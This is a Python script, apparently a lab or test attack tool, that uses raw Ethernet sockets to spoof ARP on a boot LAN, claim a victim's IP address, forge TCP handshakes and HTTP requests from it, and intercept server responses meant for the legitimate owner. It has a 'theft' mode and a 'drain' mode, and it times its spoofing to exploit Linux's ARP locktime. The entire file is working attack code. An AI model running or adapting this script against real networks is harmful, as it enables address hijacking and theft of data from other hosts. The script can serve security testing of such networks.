"""Somebody on the boot LAN who speaks raw Ethernet, always with their own source address.

theft: claims an address by ARP, opens a TCP connection from it, announces the owner's Ethernet address in one ARP packet, sends a
request, and claims the address again. Prints a JSON line for each attempt, with what was answered.
drain: claims the address again and again for some milliseconds, and prints what arrives for it.
"""
import json, random, socket, struct, sys, time

mode, interface, source, server, own_ip, claimed, owner_mac, port, path, attempts = sys.argv[1:]
# `source` is the address of the TCP segments, `claimed` the address that is claimed by ARP: that of the router, if there is one.
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
wire.bind((interface, 0))
own_mac = wire.getsockname()[4]
ip = socket.inet_aton
mac = lambda text: bytes.fromhex(text.replace(":", ""))


def arp(operation, sender_mac, sender_ip, target_mac, target_ip, to=b"\xff" * 6):
    packet = struct.pack("!HHBBH", 1, 0x0800, 6, 4, operation) + sender_mac + ip(sender_ip) + target_mac + ip(target_ip)
    wire.send(to + own_mac + b"\x08\x06" + packet)


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def tcp(sport, seq, ack, flags, data=b""):
    head = struct.pack("!HHIIBBHHH", sport, int(port), seq, ack, 0x50, flags, 64240, 0, 0)
    pseudo = ip(source) + ip(server) + struct.pack("!BBH", 0, 6, len(head) + len(data))
    head = head[:16] + struct.pack("!H", checksum(pseudo + head + data)) + head[18:]
    packet = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(head) + len(data), random.randrange(65536), 0x4000, 64, 6, 0)
    packet += ip(source) + ip(server)
    packet = packet[:10] + struct.pack("!H", checksum(packet)) + packet[12:]
    wire.send(server_mac + own_mac + b"\x08\x00" + packet + head + data)


def segments(until):
    """TCP segments from the server's port that arrive here: port, sequence number, flags, data."""
    while True:
        left = until - time.monotonic()
        if left <= 0:
            return
        wire.settimeout(left)
        try:
            frame = wire.recv(65536)
        except TimeoutError:
            return
        if frame[:6] != own_mac or frame[12:14] != b"\x08\x00" or frame[23] != 6 or frame[26:30] != ip(server):
            continue
        start = 14 + (frame[14] & 15) * 4
        total = 14 + struct.unpack("!H", frame[16:18])[0]
        sport, dport, seq, _, offset, flags = struct.unpack("!HHIIBB", frame[start : start + 14])
        if sport == int(port):
            yield dport, seq, flags, frame[start + (offset >> 4) * 4 : total]


# Gratuitous requests: Linux accepts them also within a second of the last change of an entry (locktime).
def claim():
    arp(1, own_mac, claimed, b"\0" * 6, claimed, server_mac)


def disguise():
    arp(1, mac(owner_mac), claimed, b"\0" * 6, claimed, server_mac)


def attempt(sport):
    seq = random.randrange(1 << 32)
    # A request creates the entry of the neighbour table, and the reply changes it.
    arp(1, own_mac, claimed, b"\0" * 6, server)
    claim()
    tcp(sport, seq, 0, 2)
    seq = (seq + 1) % (1 << 32)
    answer = next(((there, flags) for to, there, flags, _ in segments(time.monotonic() + 0.06) if to == sport), None)
    if answer is None or answer[1] & 0x12 != 0x12:
        return {"connected": False, "text": ""}
    there = (answer[0] + 1) % (1 << 32)
    tcp(sport, seq, there, 0x10)
    disguise()
    request = f"GET {path} HTTP/1.1\r\nHost: {server}:{port}\r\nConnection: close\r\n\r\n".encode()
    tcp(sport, seq, there, 0x18, request)
    seq += len(request)
    end = time.monotonic() + random.uniform(0.0003, 0.001)
    while time.monotonic() < end:
        pass
    claim()
    text, last, end = b"", time.monotonic(), time.monotonic() + 3
    while time.monotonic() < min(end, last + 0.3):
        for to, at, flags, data in segments(min(end, last + 0.02)):
            if to != sport:
                continue
            if at == there and data:
                text, there = text + data, (there + len(data)) % (1 << 32)
                tcp(sport, seq, there, 0x10)
            last = time.monotonic()
            if flags & 5:
                return {"connected": True, "text": text.decode(errors="replace")}
        claim()
        last = max(last, time.monotonic() - 0.25)
        if time.monotonic() > end:
            break
    return {"connected": True, "text": text.decode(errors="replace")}


# The server's Ethernet address, by ARP as everybody learns it.
server_mac = b"\xff" * 6
for _ in range(50):
    arp(1, own_mac, own_ip, b"\0" * 6, server)
    wire.settimeout(0.2)
    try:
        while True:
            frame = wire.recv(65536)
            if frame[12:14] == b"\x08\x06" and frame[20:22] == b"\0\x02" and frame[28:32] == ip(server):
                server_mac = frame[22:28]
                break
    except TimeoutError:
        continue
    break
assert server_mac != b"\xff" * 6, "the server does not answer ARP"

if mode == "theft":
    # Each attempt is a connection of its own: with the port of one of the last minute, also of another run, it would be the same. An
    # attempt takes more than 40 ms.
    first = int(time.time() * 25)
    for number in range(int(attempts)):
        print(json.dumps(attempt(1024 + (first + number) % 64000)), flush=True)
else:
    print(json.dumps({"ready": True}), flush=True)
    arp(1, own_mac, claimed, b"\0" * 6, server)
    while True:
        # The owner completes a handshake while the thief is silent; then the answer goes to the thief.
        disguise()
        time.sleep(random.uniform(0, 0.004))
        claim()
        for to, at, _, data in segments(time.monotonic() + 0.003):
            if data:
                print(json.dumps({"connected": False, "text": data.decode(errors="replace")}), flush=True)
